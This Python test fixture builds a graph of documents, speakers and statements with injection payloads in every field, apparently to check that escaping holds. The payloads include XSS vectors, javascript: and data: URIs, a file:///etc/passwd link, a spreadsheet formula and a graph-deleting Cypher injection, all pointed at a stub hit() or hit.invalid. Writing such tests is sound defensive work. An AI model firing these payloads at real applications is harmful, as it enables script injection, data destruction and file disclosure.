"""A graph whose every word wants to run in a browser, or to load something.

Each payload calls `hit()`, asks for `/hit` of the server itself, or of a host that does not exist.
"""

from datetime import date
from itertools import product
from typing import Any

from schemas import relations as r
from schemas.actors import MediaOutlet, Office, Organization, Person, Unnamed
from schemas.base import Node, Relationship
from schemas.graph import Graph
from schemas.proposals import Concept, Proposal
from schemas.provenance import Document
from schemas.statements import Statement

_ELEMENTS = (
    '<script>hit()</script>',
    '<script src=/hit></script>',
    '<script src="https://hit.invalid/x.js"></script>',
    '<img src=x onerror=hit()>',
    '<img src=/hit onerror="hit()">',
    '<img src="https://hit.invalid/x.png">',
    '<svg onload=hit()>',
    '<svg><script>hit()</script></svg>',
    '<svg><animate onbegin=hit() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
    '<svg><image href="/hit"/></svg>',
    '<svg><use href="/hit#x"/></svg>',
    '<svg><foreignObject><iframe src=/hit></iframe></foreignObject></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
    '<iframe src="javascript:hit()"></iframe>',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<iframe src=/hit></iframe>',
    '<object data=/hit></object>',
    '<embed src=/hit>',
    '<link rel=stylesheet href=/hit>',
    '<link rel=prefetch href=/hit>',
    '<style>@import "/hit";</style>',
    '<style>*{background:url(/hit)}</style>',
    '<base href="https://hit.invalid/">',
    '<meta http-equiv=refresh content="0;url=/hit">',
    '<form action=/hit><input type=submit autofocus onfocus=hit()></form>',
    '<body onload=hit()>',
    '<video><source onerror=hit()></video>',
    '<video poster=/hit></video>',
    '<audio src=/hit autoplay>',
    '<details open ontoggle=hit()>',
    '<marquee onstart=hit()>',
    '<input onfocus=hit() autofocus>',
    '<select onfocus=hit() autofocus>',
    '<textarea onfocus=hit() autofocus>',
    '<a href="javascript:hit()">x</a>',
    '<a href="/hit" ping="/hit">x</a>',
    '<div style="background:url(/hit)">x</div>',
    '<div onpointerover=hit() style="position:fixed;inset:0">x</div>',
    '<template><script>hit()</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
)  # fmt: skip
_OUT_OF = ("{}", '">{}', "'>{}", "</title>{}", "</script>{}", "-->{}", "]]>{}")
_ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    "javascript://example.org/%0Ahit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "vbscript:hit()",
    "blob:https://hit.invalid/1",
    "file:///etc/passwd",
    "//hit.invalid/x",
    'https://hit.invalid/" onmouseover="hit()',
    "https://hit.invalid/<script>hit()</script>",
    "http://[::1",
)
_TEXTS = (
    '{{constructor.constructor("hit()")()}}',
    "${hit()}",
    "#{hit()}",
    "`${hit()}`",
    "';hit();'",
    '";hit();"',
    "\\';hit();//",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\u2028hit()\u2029",
    "\u202ehit()\u202c",
    "<scr\x00ipt>hit()</scr\x00ipt>",
    "＜script＞hit()＜/script＞",
    "<!--<img src=x onerror=hit()>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "__proto__",
    "constructor",
    "toString",
    '{"__html": "<img src=x onerror=hit()>"}',
    "data(id)",
    "url(/hit)",
    "expression(hit())",
    '=HYPERLINK("https://hit.invalid")',
    "@SUM(1)|hit",
    "' OR 1=1 //",
    "'}) DETACH DELETE n //",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_ELEMENTS,
            *(out.format(e) for out, e in product(_OUT_OF[1:], (_ELEMENTS[0], _ELEMENTS[3], _ELEMENTS[6]))),
            *(e.upper().replace("HIT", "hit") for e in _ELEMENTS[:8]),
            *_ADDRESSES,
            *_TEXTS,
        ]
    )
)  # fmt: skip
ALL = "document:all"


def hostile() -> Graph:
    """A document for each payload, with it in every field, and one of all."""
    nodes: dict[str, Node] = {}
    edges: list[Relationship] = []
    for number, payload in enumerate(PAYLOADS):
        _tell(number, payload, nodes, edges)
    nodes[ALL] = Document(id=ALL, name="all", text="\n\n".join(PAYLOADS), sha256="1")
    return Graph(nodes.values(), edges).check()


def _tell(number: int, payload: str, nodes: dict[str, Node], edges: list[Relationship]) -> None:
    """One document, in which one person says the payload about the next."""
    text = f"{payload} said: {payload}. {payload}"
    start = len(payload) + 7
    document = Document(
        id=f"{payload}#{number}",
        name=payload,
        title=payload,
        url=payload,
        author=payload,
        language=payload,
        section=payload,
        published=date(2025, 5, 1 + number % 28),
        sha256="0",
        text=text,
        zone_kinds=("title", "body", "navigation"),
        zone_starts=(0, len(payload), start + len(payload) + 2),
        zone_ends=(len(payload), start + len(payload) + 2, len(text)),
    )
    where: dict[str, Any] = {"document": document.id, "start": 0, "end": len(payload)}
    speaker = Person(id=f"person:{payload}#{number}", name=payload, aliases=(f"{payload} II",))
    target = Organization(id=f"organization:{payload}", name=payload, kind="other")
    outlet = MediaOutlet(id=f"outlet:{payload}", name=payload)
    unnamed = Unnamed(id=f"unnamed:{payload}@{document.id}", name=payload, description=payload)
    office = Office(id=f"office:{payload}", name=payload)
    proposal = Proposal(id=f"proposal:{payload}@{document.id}", name=payload, summary=payload)
    needed = Proposal(id=f"proposal:2{payload}@{document.id}", name=payload)
    concept = Concept(id=f"concept:{payload}", name=payload, definition=payload)
    statement = Statement.model_validate(
        {
            "id": f"statement:{payload}@{document.id}",
            "name": payload,
            "text": payload,
            "starts": (start,),
            "ends": (start + len(payload),),
            "source_starts": (0,),
            "source_ends": (len(payload),),
            "cue": payload,
            "cue_starts": (len(payload) + 1,),
            "cue_ends": (len(payload) + 5,),
            "kind": "direct",
            "rule": payload,
            "confidence": 0.9,
        }
    )
    told = (
        document,
        speaker,
        target,
        outlet,
        unnamed,
        office,
        proposal,
        needed,
        concept,
        statement,
    )
    nodes.update({node.id: node for node in told})
    of = statement.id
    stance = ("positive", "neutral", "negative")[number % 3]
    edges += [
        r.In(source=of, target=document.id, **where),
        r.Said(source=speaker.id, target=of, **where),
        r.RelayedBy(source=of, target=unnamed.id, hop=1, **where),
        r.About.model_validate({"source": of, "target": target.id, "stance": stance, **where}),
        r.About(source=of, target=proposal.id, stance="negative", **where),
        r.PublishedBy(source=document.id, target=outlet.id, document=document.id),
        r.DescribedAs(
            source=speaker.id,
            target=office.id,
            tense="present",
            consistent=False,
            expected=payload,
            **where,
        ),
        r.Conditions(
            source=speaker.id, target=proposal.id, statement=of, condition=payload, **where
        ),
        r.ConditionalOn(
            source=proposal.id, target=needed.id, actor=speaker.id, statement=of, **where
        ),
        r.InstanceOf(source=proposal.id, target=concept.id, document=document.id),
        *(_mentioned(node, document, payload) for node in (speaker, target, outlet)),
    ]


def _mentioned(node: Node, document: Document, payload: str) -> Relationship:
    return r.MentionedIn(
        source=node.id,
        target=document.id,
        document=document.id,
        start=0,
        end=len(payload),
        starts=(0,),
        ends=(len(payload),),
        surfaces=(payload,),
        count=1,
        description=payload,
    )
